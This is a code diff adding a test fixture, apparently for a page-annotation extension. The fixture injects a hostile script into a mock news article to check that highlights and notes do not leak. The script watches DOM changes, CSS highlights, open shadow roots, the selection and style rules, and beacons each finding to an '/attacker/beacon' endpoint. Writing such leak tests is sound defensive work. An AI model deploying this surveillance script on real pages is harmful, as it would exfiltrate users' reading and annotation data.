@@ -65,3 +65,44 @@ export function liveStory(variant: 'base' | 'edited' | 'removed'): string {
 <div class="article-body">${body.map((p) => `<p>${p}</p>`).join('\n')}</div></article></main>
 <footer>한빛일보 · 무단 전재 금지</footer></body></html>`;
 }
+
+/**
+ * The live story with a hostile script (issue 14, item 6): it watches everything a page's own
+ * script can — CSS.highlights, every node added to the document and its shadow root if open,
+ * <mark> elements, the selection — and beacons what it finds to /attacker/beacon on the same
+ * test server. The test then checks that nothing of a highlight or a note arrived.
+ */
+export function attackerStory(): string {
+  const script = `(() => {
+  const seen = new Set();
+  const initial = new Set(document.querySelectorAll('*'));
+  const send = (kind, data) => {
+    const text = String(data).slice(0, 3000);
+    if (seen.has(kind + ':' + text)) return;
+    seen.add(kind + ':' + text);
+    const url = '/attacker/beacon?k=' + encodeURIComponent(kind) + '&d=' + encodeURIComponent(text);
+    if (!navigator.sendBeacon(url)) fetch(url).catch(() => {});
+  };
+  const describe = (n) => (n.outerHTML ?? n.textContent ?? '') + ' | text: ' + (n.innerText ?? n.textContent ?? '') + ' | shadow: ' + (n.shadowRoot ? n.shadowRoot.innerHTML : 'none or closed');
+  send('hello', location.pathname);
+  new MutationObserver((records) => {
+    for (const r of records) {
+      for (const n of r.addedNodes) send('added', describe(n));
+      if (r.type === 'attributes') send('attribute', r.target.nodeName + ' ' + r.attributeName + '=' + r.target.getAttribute(r.attributeName));
+      if (r.type === 'characterData') send('text-changed', r.target.data);
+    }
+  }).observe(document.documentElement, { subtree: true, childList: true, characterData: true, attributes: true });
+  setInterval(() => {
+    if (window.CSS && CSS.highlights) CSS.highlights.forEach((h, name) => h.forEach((r) => send('css-highlight', name + '=' + r.toString())));
+    document.querySelectorAll('mark, [data-margin-hl], [data-margin-id]').forEach((m) => send('mark', m.outerHTML));
+    for (const el of document.querySelectorAll('*')) {
+      if (!initial.has(el)) send('new-element', describe(el));
+      if (el.shadowRoot) send('open-shadow', el.shadowRoot.innerHTML);
+    }
+    const selected = getSelection() && getSelection().toString();
+    if (selected) send('selection', selected);
+    for (const sheet of document.styleSheets) { try { for (const rule of sheet.cssRules) send('css-rule', rule.cssText); } catch (e) {} }
+  }, 150);
+})();`;
+  return liveStory('base').replace('</body>', `<script>${script}</script></body>`);
+}
